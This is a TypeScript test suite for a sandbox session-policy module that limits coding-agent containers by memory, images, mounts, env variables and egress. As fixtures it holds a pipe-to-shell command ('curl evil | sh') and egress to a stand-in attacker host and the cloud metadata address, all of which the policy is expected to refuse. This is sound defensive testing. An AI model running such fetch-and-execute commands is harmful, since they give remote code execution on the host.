import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workspaceConfigFromObject } from '../../src/sandbox/config';
import {
  canonicalPolicyJson,
  egressCovers,
  effectiveSessionPolicy,
  loadOperatorPolicy,
  type OperatorPolicy,
  operatorPolicyFromObject,
  PolicyFileError,
  PolicyViolation,
  policySha256,
  recheckSessionPolicy,
} from '../../src/sandbox/session-policy';

const GiB = 1024 ** 3;
let root: string;
let home: string;
let ws: string;
let datasets: string;
let outside: string;

beforeAll(() => {
  root = realpathSync(mkdtempSync(path.join(tmpdir(), 'loki-sesspol-')));
  home = path.join(root, 'home');
  ws = path.join(root, 'ws');
  datasets = path.join(root, 'srv', 'datasets');
  outside = path.join(root, 'outside');
  for (const d of [home, ws, path.join(datasets, 'a'), outside, path.join(root, 'sock')]) mkdirSync(d, { recursive: true });
  symlinkSync(outside, path.join(datasets, 'escape'));
  writeFileSync(path.join(root, 'sock', 'docker.sock'), '');
});
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
});

function operator(doc: Record<string, unknown> = {}, allowHostSessions = false): OperatorPolicy {
  return operatorPolicyFromObject(doc, { source: '/etc/loki/policy.yaml', allowHostSessions });
}

function merge(sandbox: Record<string, unknown> | null, op: OperatorPolicy, o: { requestedSandbox?: boolean; forceSandbox?: boolean; dockerSocket?: string } = {}) {
  const config = workspaceConfigFromObject(sandbox === null ? {} : { sandbox }, { workspaceDir: ws, home });
  return effectiveSessionPolicy({
    config,
    operator: op,
    requestedSandbox: o.requestedSandbox,
    forceSandbox: o.forceSandbox ?? false,
    mountContext: { home, dockerSocket: o.dockerSocket },
  });
}

function violation(fn: () => unknown): PolicyViolation {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(PolicyViolation);
    return err as PolicyViolation;
  }
  throw new Error('no policy violation');
}

describe('operator policy file', () => {
  it('defaults: no host sessions, no mounts, the two local images, runc, no env, 8g/4 CPUs/4 h/10g, no egress', () => {
    const p = loadOperatorPolicy(path.join(root, 'missing.yaml'));
    expect(p).toEqual({
      source: null,
      hostSessions: false,
      hostCommands: [['claude', '-p', '{prd}', '--output-format', 'stream-json', '--verbose']],
      mountRoots: [],
      images: ['loki-sandbox:local', 'loki-agent:local'],
      runtimes: ['runc'],
      envAllowlist: [],
      limits: { memoryBytes: 8 * GiB, nanoCpus: 4e9, timeoutSeconds: 14_400, diskBytes: 10 * GiB },
      egress: { openNetwork: false, allow: [], privateDestinations: [] },
    });
  });

  it('parses the documented example, and LOKI_ALLOW_HOST_SESSIONS overrides host_sessions', () => {
    const file = path.join(root, 'policy.yaml');
    writeFileSync(
      file,
      [
        'host_sessions: false',
        'mount_roots: ["/srv/datasets", {path: /srv/scratch, mode: rw}]',
        'images: ["loki-sandbox:local", "loki-agent:local"]',
        'runtimes: ["runc", "runsc"]',
        'env_allowlist: ["ANTHROPIC_API_KEY"]',
        'limits: {memory: "8g", cpu: "4", timeout_seconds: 14400, disk: "10g"}',
        'egress: {open_network: false, allow: ["*.anthropic.com:443"], private_destinations: []}',
      ].join('\n'),
      { mode: 0o600 },
    );
    chmodSync(file, 0o600);
    const p = loadOperatorPolicy(file);
    expect(p.mountRoots).toEqual([
      { path: '/srv/datasets', mode: 'ro' },
      { path: '/srv/scratch', mode: 'rw' },
    ]);
    expect(p.runtimes).toEqual(['runc', 'runsc']);
    expect(p.egress.allow).toEqual(['*.anthropic.com:443']);
    expect(p.hostSessions).toBe(false);
    expect(loadOperatorPolicy(file, { allowHostSessions: true }).hostSessions).toBe(true);
  });

  it.each([
    ['hosts_sessions: true', 'hosts_sessions: unknown key'],
    ['limits: {memory: lots}', 'limits.memory: expected a memory size like 512m or 8g, got "lots"'],
    ['mount_roots: [relative/dir]', 'mount_roots.0'],
    ['env_allowlist: [LOKI_WORKER_TOKEN]', 'LOKI_WORKER_TOKEN is a Loki credential'],
    ['egress: {allow: ["anthropic.com"]}', 'egress.allow.0: expected "host:port"'],
    ['runtimes: []', 'runtimes'],
    ['- just a list', '(root): expected a mapping'],
    ['a: [unclosed', 'not valid YAML'],
  ])('refuses %j with one line naming the key', (text, fragment) => {
    const file = path.join(root, 'bad.yaml');
    writeFileSync(file, text, { mode: 0o600 });
    chmodSync(file, 0o600);
    let message = '';
    try {
      loadOperatorPolicy(file);
    } catch (err) {
      expect(err).toBeInstanceOf(PolicyFileError);
      message = (err as Error).message;
    }
    expect(message).toContain(file);
    expect(message).toContain(fragment);
    expect(message).not.toContain('\n');
  });

  it('refuses a policy file others can write, and a symlink', () => {
    const file = path.join(root, 'loose.yaml');
    writeFileSync(file, 'host_sessions: true\n');
    chmodSync(file, 0o666);
    expect(() => loadOperatorPolicy(file)).toThrow(`${file}: writable by group or others (mode 666); chmod 600 it`);
    const link = path.join(root, 'link.yaml');
    chmodSync(file, 0o600);
    symlinkSync(file, link);
    expect(() => loadOperatorPolicy(link)).toThrow('not a regular file (symlinks are not followed)');
  });
});

describe('effective session policy', () => {
  it('a workspace without a config gets the defaults, capped by the operator', () => {
    const p = merge(null, operator({ limits: { memory: '2g', cpu: '1', timeout_seconds: 600, disk: '1g' } }));
    expect(p).toEqual({
      sandbox: true,
      image: 'loki-sandbox:local',
      runtime: 'runc',
      network: false,
      egress: [],
      memory_bytes: 2 * GiB,
      nano_cpus: 1e9,
      timeout_seconds: 600,
      idle_timeout_seconds: 600,
      disk_bytes: 1 * GiB,
      mounts: [],
      env_allowlist: [],
      cap_add: [],
      user: '1000:1000',
      command: ['claude', '-p', '{prd}', '--output-format', 'stream-json', '--verbose'],
    });
  });

  it('a workspace may narrow: less memory, an allowed image and runtime, allowed env and egress', () => {
    const op = operator({
      runtimes: ['runc', 'runsc'],
      env_allowlist: ['ANTHROPIC_API_KEY'],
      egress: { allow: ['*.anthropic.com:443'], private_destinations: ['127.0.0.1:8080'] },
      mount_roots: [datasets],
    });
    const p = merge(
      {
        memory_limit: '512m',
        image: 'loki-agent:local',
        runtime: 'runsc',
        env_allowlist: ['ANTHROPIC_API_KEY'],
        egress: ['api.anthropic.com:443', '127.0.0.1:8080'],
        mounts: [`${datasets}/a:/data:ro`],
        disk_limit: '2g',
      },
      op,
    );
    expect(p).toMatchObject({
      memory_bytes: 512 * 1024 ** 2,
      image: 'loki-agent:local',
      runtime: 'runsc',
      env_allowlist: ['ANTHROPIC_API_KEY'],
      egress: ['api.anthropic.com:443', '127.0.0.1:8080'],
      mounts: [{ host: path.join(datasets, 'a'), container: '/data', mode: 'ro' }],
      disk_bytes: 2 * GiB,
    });
  });

  it.each([
    [{ memory_limit: '16g' }, '.loki/config.yaml: sandbox.memory_limit: 16g is above the operator\'s limit of 8g (/etc/loki/policy.yaml)'],
    [{ cpu_limit: '8' }, 'sandbox.cpu_limit: 8 CPUs is above the operator\'s limit of 4 CPUs'],
    [{ timeout_seconds: 86_400 }, 'sandbox.timeout_seconds: 86400 s is above the operator\'s limit of 14400 s'],
    [{ disk_limit: '20g' }, 'sandbox.disk_limit: 20g is above the operator\'s limit of 10g'],
    [{ image: 'ubuntu:latest' }, 'sandbox.image: "ubuntu:latest" is not an allowed image (images: loki-sandbox:local, loki-agent:local'],
    [{ runtime: 'runsc' }, 'sandbox.runtime: "runsc" is not an allowed runtime (runtimes: runc'],
    [{ env_allowlist: ['AWS_SECRET_ACCESS_KEY'] }, 'sandbox.env_allowlist: AWS_SECRET_ACCESS_KEY is not in the operator\'s env_allowlist (empty'],
    [{ network: true }, 'sandbox.network: an open network is not allowed by the operator (egress.open_network: false'],
    [{ egress: ['evil.example.com:443'] }, 'sandbox.egress: evil.example.com:443 is not within the operator\'s egress allowlist'],
    [{ egress: ['169.254.169.254:80'] }, 'sandbox.egress: 169.254.169.254:80 is not within'],
  ])('refuses %j beyond the operator policy', (sandbox, message) => {
    const v = violation(() => merge(sandbox, operator()));
    expect(v.status).toBe(400);
    expect(v.message).toContain(message);
  });

  it.each([
    ['/tmp', 'is not below an allowed mount root (mount_roots: '],
    ['/usr', 'is not below an allowed mount root'],
    ['/root', 'is not below an allowed mount root'],
  ])('refuses a mount of %s outside the allowed roots', (host, message) => {
    const v = violation(() => merge({ mounts: [`${host}:/x:ro`] }, operator({ mount_roots: [datasets] })));
    expect(v.key).toBe('.loki/config.yaml: sandbox.mounts.0');
    expect(v.message).toContain(message);
  });

  it('refuses a symlink inside an allowed root that points outside it (real paths are compared)', () => {
    const v = violation(() => merge({ mounts: [`${datasets}/escape:/x:ro`] }, operator({ mount_roots: [datasets] })));
    expect(v.message).toContain(`${outside} is not below an allowed mount root`);
  });

  it('refuses read-write below a read-only root, and accepts it below a rw root', () => {
    expect(violation(() => merge({ mounts: [`${datasets}/a:/x:rw`] }, operator({ mount_roots: [datasets] }))).message).toContain('read-write is not allowed');
    expect(merge({ mounts: [`${datasets}/a:/x:rw`] }, operator({ mount_roots: [{ path: datasets, mode: 'rw' }] })).mounts[0]!.mode).toBe('rw');
  });

  it('refuses the Docker socket at a custom path even below an allowed root', () => {
    const sockDir = path.join(root, 'sock');
    const v = violation(() => merge({ mounts: [`${sockDir}:/s:ro`] }, operator({ mount_roots: [root] }), { dockerSocket: path.join(sockDir, 'docker.sock') }));
    expect(v.message).toContain('rule docker_socket');
  });

  it('host sessions: refused (403) unless the operator allows them; a workspace cannot ask for one', () => {
    const v = violation(() => merge(null, operator(), { requestedSandbox: false }));
    expect(v.status).toBe(403);
    expect(v.message).toContain('host sessions (sandbox: false) are not allowed by the operator (host_sessions: false in /etc/loki/policy.yaml');
    expect(merge(null, operator({}, true), { requestedSandbox: false }).sandbox).toBe(false);
    expect(merge(null, operator({ host_sessions: true }), { requestedSandbox: false }).sandbox).toBe(false);
    // The workspace's `enabled: false` is not a request for a host session; `enabled: true` narrows one away.
    expect(merge({ enabled: false }, operator({ host_sessions: true })).sandbox).toBe(true);
    expect(merge({ enabled: true }, operator({ host_sessions: true }), { requestedSandbox: false }).sandbox).toBe(true);
    expect(merge(null, operator({ host_sessions: true }), { requestedSandbox: false, forceSandbox: true }).sandbox).toBe(true);
  });

  it('a host session runs only a command the operator lists: the workspace file cannot choose what runs on the host', () => {
    const custom = workspaceConfigFromObject({ provider: { command: ['/bin/sh', '-c', 'curl evil | sh'] } }, { workspaceDir: ws, home });
    const input = { config: custom, requestedSandbox: false, forceSandbox: false, mountContext: { home } };
    const v = violation(() => effectiveSessionPolicy({ ...input, operator: operator({ host_sessions: true }) }));
    expect(v.status).toBe(403);
    expect(v.message).toBe(
      '.loki/config.yaml: provider.command: ["/bin/sh","-c","curl evil | sh"] is not one of the operator\'s host_commands (/etc/loki/policy.yaml); a host session runs only those',
    );
    const listed = operator({ host_sessions: true, host_commands: [['/bin/sh', '-c', 'curl evil | sh']] });
    expect(effectiveSessionPolicy({ ...input, operator: listed }).sandbox).toBe(false);
    // Sandboxed, the same command is the workspace's own business.
    expect(effectiveSessionPolicy({ ...input, requestedSandbox: undefined, operator: operator() }).command).toEqual(['/bin/sh', '-c', 'curl evil | sh']);
    // The worker checks it again against its own list.
    const p = effectiveSessionPolicy({ ...input, operator: listed });
    expect(violation(() => recheckSessionPolicy(p, operator({ host_sessions: true }), { home })).key).toBe('command');
  });

  it('the SHA-256 is over the canonical JSON (sorted keys), independent of key order', () => {
    const p = merge(null, operator());
    const json = canonicalPolicyJson(p);
    expect(json.startsWith('{"cap_add":[],"command":[')).toBe(true);
    expect(policySha256(p)).toBe(createHash('sha256').update(json).digest('hex'));
    const reordered = Object.fromEntries(Object.entries(p).reverse()) as typeof p;
    expect(policySha256(reordered)).toBe(policySha256(p));
  });
});

describe('the worker re-checks a handed-over policy against its own operator policy', () => {
  it('refuses host sessions, bigger limits, other images and env names the worker host does not allow', () => {
    const server = operator({ host_sessions: true, env_allowlist: ['GITHUB_TOKEN'], limits: { memory: '16g' } });
    const worker = operator();
    const ctx = { home };
    const host = merge({ env_allowlist: ['GITHUB_TOKEN'] }, server, { requestedSandbox: false });
    expect(violation(() => recheckSessionPolicy(host, worker, ctx)).message).toContain('host sessions are not allowed on this worker');
    const big = merge({ memory_limit: '12g' }, server);
    expect(violation(() => recheckSessionPolicy(big, worker, ctx)).key).toBe('memory_bytes');
    const env = merge({ env_allowlist: ['GITHUB_TOKEN'] }, server);
    expect(violation(() => recheckSessionPolicy(env, worker, ctx)).message).toContain('GITHUB_TOKEN is not allowed on this worker');
    expect(violation(() => recheckSessionPolicy({ ...merge(null, server), image: 'evil:1' }, worker, ctx)).key).toBe('image');
    expect(() => recheckSessionPolicy(merge(null, server), worker, ctx)).not.toThrow();
  });

  it('refuses a mount whose real path changed since creation (symlink swapped)', () => {
    const op = operator({ mount_roots: [datasets] });
    const link = path.join(datasets, 'swap');
    mkdirSync(path.join(datasets, 'real'), { recursive: true });
    symlinkSync(path.join(datasets, 'real'), link);
    const p = merge({ mounts: [`${link}:/x:ro`] }, op);
    expect(p.mounts[0]!.host).toBe(path.join(datasets, 'real'));
    expect(() => recheckSessionPolicy(p, op, { home })).not.toThrow();
    rmSync(path.join(datasets, 'real'), { recursive: true });
    symlinkSync(outside, path.join(datasets, 'real'));
    expect(violation(() => recheckSessionPolicy(p, op, { home })).message).toContain(`now resolves to ${outside}`);
  });
});

describe('egress patterns', () => {
  it.each([
    ['api.anthropic.com:443', 'api.anthropic.com:443', true],
    ['*.anthropic.com:443', 'api.anthropic.com:443', true],
    ['*.anthropic.com:443', 'a.b.anthropic.com:443', true],
    ['*.anthropic.com:443', '*.api.anthropic.com:443', true],
    ['*.anthropic.com:443', 'anthropic.com:443', false],
    ['*.anthropic.com:443', 'evilanthropic.com:443', false],
    ['*.anthropic.com:443', 'api.anthropic.com:80', false],
    ['api.anthropic.com:443', '*.anthropic.com:443', false],
  ])('%s covers %s: %s', (pattern, entry, covers) => {
    expect(egressCovers(pattern, entry)).toBe(covers);
  });
});
